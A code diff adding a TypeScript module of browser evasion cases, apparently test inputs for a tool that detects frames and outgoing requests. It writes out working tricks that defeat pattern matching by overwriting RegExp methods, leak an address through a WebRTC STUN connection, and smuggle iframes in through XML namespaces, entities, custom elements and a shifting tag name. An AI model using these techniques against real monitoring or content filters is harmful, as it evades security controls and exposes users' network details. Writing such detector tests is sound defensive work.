@@ -1,0 +1,38 @@
+import { ways } from "../way.ts";
+
+const SCRIPT = `const code = URL.createObjectURL(new Blob(["const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"], { type: "text/javascript" }));`;
+
+/** While this runs, no pattern finds anything. */
+const unmatched = (code: string) => `
+  const real = Object.getOwnPropertyDescriptors(RegExp.prototype);
+  RegExp.prototype.exec = RegExp.prototype[Symbol.match] = () => null; RegExp.prototype.test = () => false;
+  try { ${code} } finally { Object.defineProperties(RegExp.prototype, real); }
+  await sleep(700);`;
+
+/** Ways to a document in the document past those who watch for one: each first replaces what they would use, or speaks another language. */
+export const hidden = ways({
+  "a written frame once no pattern is found any more": `${SCRIPT}
+    ${unmatched(`document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script src=' + code + '></script>"></iframe>');`)}`,
+  "an attribute of a frame once no pattern is found any more": `${SCRIPT} const f = document.createElement("iframe");
+    ${unmatched(`f.srcdoc = '<script src="' + code + '"></' + 'script>'; document.body.append(f);`)}`,
+  "a frame of XML under another prefix": {
+    code: `const d = new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>', "application/xhtml+xml");
+      const f = document.adoptNode(d.documentElement); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
+    knocks: true,
+  },
+  "a frame of an entity of XML": {
+    code: `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;h:iframe xmlns:h=\\'http://www.w3.org/1999/xhtml\\'/&#62;">]><x>&e;</x>', "text/xml");
+      const f = document.adoptNode(d.documentElement.firstChild); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
+    knocks: true,
+  },
+  "a frame that is an element of its own": {
+    code: `class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" });
+      const f = new F(); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
+    knocks: true,
+  },
+  "an empty frame by a name that changes": {
+    code: `let n = 0; const f = document.createElement({ toString: () => (n++ ? "iframe" : "p") }); document.body.append(f);
+      if (!f.contentWindow) throw new Error("no frame"); f.contentWindow.location = there; await sleep(400);`,
+    isHarmless: true,
+  },
+});
